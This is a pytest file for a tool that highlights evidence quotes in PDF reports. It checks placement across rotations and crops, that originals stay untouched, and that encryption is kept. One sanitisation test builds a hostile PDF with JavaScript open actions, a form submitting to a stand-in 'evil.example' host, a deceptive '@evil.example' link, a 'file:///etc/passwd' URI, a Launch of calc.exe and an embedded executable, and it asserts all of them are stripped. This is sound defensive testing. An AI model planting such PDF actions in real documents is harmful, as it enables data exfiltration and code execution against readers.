"""The annotated report: every highlight lies on its quote, in PDFium and poppler, and the original is untouched."""

from __future__ import annotations

import hashlib
import io
import shutil
import subprocess
from pathlib import Path

import pikepdf
import pypdfium2
import pytest
from PIL import Image
from reportlab.pdfbase.pdfmetrics import stringWidth
from reportlab.pdfgen import canvas

from scorer.errors import UserError
from scorer.library.annotating import annotate, marks
from scorer.scorecard.model import (
    ElementCard,
    IndicatorCard,
    PageCard,
    Quote,
    ReportCard,
    RubricCard,
    Scorecard,
    ThemeCard,
)

# (rotation, crop box): what a page may do to places. Every page carries the same sentence at the same user place.
PAGES = ((0, None), (90, None), (180, None), (270, None), (0, (40, 60, 560, 800)), (90, (40, 60, 560, 800)))
WIDTH, HEIGHT = 595, 842
TEXT = ("In 2023 we repaid fees to 63 workers.", "They work in Penang.")
LINES = (72, 700, 14)  # x, base line of the first, leading; in user space


@pytest.fixture
def report(tmp_path: Path) -> Path:
    path = tmp_path / "report.pdf"
    pdf = canvas.Canvas(str(path), pagesize=(WIDTH, HEIGHT), invariant=True)
    for n, _ in enumerate(PAGES):
        pdf.setFont("Helvetica", 11)
        pdf.drawString(72, 760, f"Page {n + 1}: nothing to see.")
        for i, line in enumerate(TEXT):
            pdf.drawString(LINES[0], LINES[1] - i * LINES[2], line)
        pdf.drawString(72, 300, "Far below stands another sentence.")
        pdf.showPage()
    pdf.save()
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        for page, (rotation, crop) in zip(pdf.pages, PAGES, strict=True):
            page.Rotate = rotation
            if crop:
                page.CropBox = pikepdf.Array(crop)
        pdf.save(path)
    return path


def _displayed(rotation: int, crop, x0: float, y0: float, x1: float, y1: float) -> tuple[float, float, float, float]:
    """A rectangle of user space as a viewer shows it: (x0, top, x1, bottom), worked out by turning its corners."""
    left, low, right, high = crop or (0, 0, WIDTH, HEIGHT)
    width, height = right - left, high - low
    corners = []
    for x, y in ((x0 - left, y0 - low), (x1 - left, y1 - low)):
        turned = {0: (x, height - y), 90: (y, x), 180: (width - x, y), 270: (height - y, width - x)}[rotation]
        corners.append(turned)
    (a, b), (c, d) = corners
    return min(a, c), min(b, d), max(a, c), max(b, d)


def _card(path: Path) -> Scorecard:
    quotes = []
    for n, (rotation, crop) in enumerate(PAGES):
        boxes = []
        for i, line in enumerate(TEXT):
            base = LINES[1] - i * LINES[2]
            boxes.append(
                (
                    n + 1,
                    *_displayed(
                        rotation, crop, LINES[0], base - 2.5, LINES[0] + stringWidth(line, "Helvetica", 11), base + 9
                    ),
                )
            )
        quotes.append(
            Quote(
                page=n + 1,
                quote=" ".join(TEXT),
                section="",
                boxes=tuple(boxes),
                level="evidenced",
                cues=(),
                found_by=(),
            )
        )
    element = ElementCard(
        id="RE3.2", ask="Was remedy (really) provided?", weight=1, level="evidenced", denied=False, status="assessed",
        points=100, confidence="high", reason="Facts.", evidence=tuple(quotes),
    )  # fmt: skip
    again = element.model_copy(update={"id": "DD3.1", "ask": "What is done? ünïcode", "evidence": (quotes[0],)})
    indicator = IndicatorCard(id="I", title="I", weight=1, score=100, elements=(element, again))
    return Scorecard(
        tool_version="0", company="C", score=100, low=100, high=100, coverage=1, brochure={}, warnings=(),
        report=ReportCard(
            file=path.name, sha256=hashlib.sha256(path.read_bytes()).hexdigest(), title="T", date="2024",
            pages=len(PAGES),
            language="en",
            page_quality=tuple(PageCard(page=n + 1, quality="text", words=9) for n in range(len(PAGES))),
        ),
        rubric=RubricCard(id="r", version="1", digest="0" * 16),
        themes=(ThemeCard(id="T", title="T", weight=1, score=100, coverage=1, indicators=(indicator,)),),
    )  # fmt: skip


def test_every_highlight_lies_on_its_quote_in_pdfium(report: Path) -> None:
    out = report.with_name("annotated.pdf")
    out.write_bytes(annotate(report, _card(report)))

    with pikepdf.open(out) as pdf:
        quads = [
            [[float(v) for v in a.QuadPoints] for a in page.Annots if a.Subtype == pikepdf.Name.Highlight]
            for page in pdf.pages
        ]
    document = pypdfium2.PdfDocument(out)
    for n in range(len(PAGES)):
        ((*points,),) = quads[n]
        text = document[n].get_textpage()
        lines = []
        for i in range(0, len(points), 8):
            xs, ys = points[i : i + 8 : 2], points[i + 1 : i + 8 : 2]
            lines.append(text.get_text_bounded(min(xs), min(ys), max(xs), max(ys)).strip())
        assert " ".join(lines) == " ".join(TEXT), f"page {n + 1}"
    document.close()


def test_poppler_shows_the_highlight_where_the_quote_stands_and_nowhere_else(report: Path, tmp_path: Path) -> None:
    if not shutil.which("pdftoppm"):
        pytest.skip("pdftoppm (poppler-utils) is not installed")
    out = tmp_path / "annotated.pdf"
    card = _card(report)
    out.write_bytes(annotate(report, card))
    subprocess.run(["pdftoppm", "-r", "72", "-cropbox", "-png", out, tmp_path / "p"], check=True)

    for n, q in enumerate(card.elements()[0].evidence):
        picture = Image.open(tmp_path / f"p-{n + 1}.png").convert("RGB")
        for _, x0, top, x1, bottom in q.boxes:
            yellow = [
                p for x in range(int(x0) + 2, int(x1) - 2) for y in range(int(top) + 2, int(bottom) - 2)
                if (p := picture.getpixel((x, y)))[0] > 200 and p[2] < 150
            ]  # fmt: skip
            assert len(yellow) > 0.4 * (x1 - x0 - 5) * (bottom - top - 5), f"page {n + 1}"
        area = sum((b[3] - b[1]) * (b[4] - b[2]) for b in q.boxes)
        raw = picture.tobytes()
        coloured = sum(r > 200 and b < 150 for r, b in zip(raw[::3], raw[2::3], strict=True))
        assert coloured < 1.15 * area + 200


def test_the_original_is_untouched_and_the_copy_is_the_same_every_time(report: Path) -> None:
    before = report.read_bytes()
    first = annotate(report, _card(report))

    assert annotate(report, _card(report)) == first
    assert report.read_bytes() == before


def test_highlights_are_labelled_by_element_and_printed(report: Path) -> None:
    out = report.with_name("annotated.pdf")
    out.write_bytes(annotate(report, _card(report)))

    with pikepdf.open(out) as pdf:
        first = pdf.pages[0].Annots
        highlight = next(a for a in first if a.Subtype == pikepdf.Name.Highlight)
        assert str(highlight.Subj) == "RE3.2, DD3.1"
        assert "RE3.2 evidenced: Was remedy (really) provided?" in str(highlight.Contents)
        assert "ünïcode" in str(highlight.Contents)
        assert int(highlight.F) & 4
        assert [str(a.Contents) for a in first if a.Subtype == pikepdf.Name.FreeText] == ["RE3.2, DD3.1"]


def test_annotations_that_a_report_has_stay(report: Path) -> None:
    with pikepdf.open(report, allow_overwriting_input=True) as pdf:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
        pdf.pages[0].obj["/Annots"] = pikepdf.Array([link])
        pdf.pages[1].obj["/Annots"] = pikepdf.String("nonsense")
        pdf.save(report)
    out = report.with_name("annotated.pdf")
    out.write_bytes(annotate(report, _card(report)))

    with pikepdf.open(out) as pdf:
        kinds = [str(a.Subtype) for a in pdf.pages[0].Annots]
    assert kinds[0] == "/Link" and "/Highlight" in kinds


def test_a_quote_is_highlighted_once_whatever_it_answers(report: Path) -> None:
    assert [m.label for m in marks(_card(report))] == ["RE3.2, DD3.1", *["RE3.2"] * 5]


def test_what_is_no_pdf_is_one_clear_error(tmp_path: Path, report: Path) -> None:
    nonsense = tmp_path / "nonsense.pdf"
    nonsense.write_bytes(b"%PDF-1.7 nothing")

    with pytest.raises(UserError, match="cannot be highlighted") as error:
        annotate(nonsense, _card(report))
    assert "nonsense.pdf" in str(error.value)


def test_nothing_that_runs_is_in_the_copy(report: Path) -> None:
    script = "<< /S /JavaScript /JS (app.alert(1)) >>"
    web, sly = "https://example.org/", "https://example.org@evil.example/"
    with pikepdf.open(report, allow_overwriting_input=True) as pdf:

        def made(text: str) -> pikepdf.Object:
            return pikepdf.Object.parse(text.encode())

        kept = pikepdf.Stream(pdf, b"MZ"), pikepdf.Stream(pdf, b"<xdp/>")
        pdf.Root.OpenAction, pdf.Root.AA = made(script), made(f"<< /WC {script} >>")
        pdf.Root.Names = made(f"<< /JavaScript << /Names [(a) {script}] >> >>")
        file = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=kept[0]))
        pdf.Root.Names.EmbeddedFiles = pikepdf.Dictionary(Names=pikepdf.Array(["x.exe", file]))
        field = made(
            f"<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K {script} "
            "/Fo << /S /SubmitForm /F (http://evil.example/) >> >> >>"
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), XFA=kept[1])
        notes = [
            f"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({there}) >> >>"
            for there in (web, sly, "file:///etc/passwd")
        ]
        notes.append(
            "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D (there) /Next << /S /Launch /F (calc.exe) >> >> >>"
        )
        notes.append("<< /Subtype /RichMedia /Rect [0 0 9 9] >>")
        page = pdf.pages[0].obj
        page.AA = made(f"<< /O {script} >>")
        page.Annots = pikepdf.Array([field, *map(made, notes)])
        pdf.save(report)
    out = report.with_name("annotated.pdf")
    out.write_bytes(annotate(report, _card(report)))
    with pikepdf.open(out) as pdf:
        whole = b"".join(part.unparse(resolved=True) for part in pdf.objects)
        streams = b"".join(part.read_bytes() for part in pdf.objects if isinstance(part, pikepdf.Stream))
    for mark in (b"JavaScript", b"app.alert", b"SubmitForm", b"Launch", b"calc.exe", b"evil.example", b"passwd",
                 b"OpenAction", b"XFA", b"EmbeddedFile", b"RichMedia"):  # fmt: skip
        assert mark not in whole, mark
    assert b"<xdp/>" not in streams and b"MZ" not in streams
    assert web.encode() in whole and b"GoTo" in whole and b"Highlight" in whole


@pytest.mark.parametrize(("user", "strength"), [("", 4), ("", 6), ("secret", 3), ("secret", 6)])
def test_what_was_locked_stays_locked(report: Path, user: str, strength: int) -> None:
    """By whatever password it was opened, and with the permissions that it had."""
    allowed = pikepdf.Permissions(extract=False, print_highres=False)
    with pikepdf.open(report, allow_overwriting_input=True) as pdf:
        lock = pikepdf.Encryption(owner="owner", user=user, R=strength, aes=strength > 3, metadata=False, allow=allowed)
        pdf.save(report, encryption=lock)
    for given in {user or None, "owner"}:
        copy = io.BytesIO(annotate(report, _card(report), password=given))
        with pikepdf.open(copy, password=user) as pdf:
            assert pdf.is_encrypted and strength == pdf.encryption.R
            assert (pdf.allow.extract, pdf.allow.print_highres, pdf.allow.accessibility) == (False, False, True)
            assert not pdf.owner_password_matched
            assert any("/Annots" in page for page in pdf.pages)
        with pikepdf.open(copy, password="owner") as pdf:
            assert pdf.owner_password_matched
        with pytest.raises(pikepdf.PasswordError):
            pikepdf.open(copy, password="another")
        if user:
            with pytest.raises(pikepdf.PasswordError):
                pikepdf.open(copy)
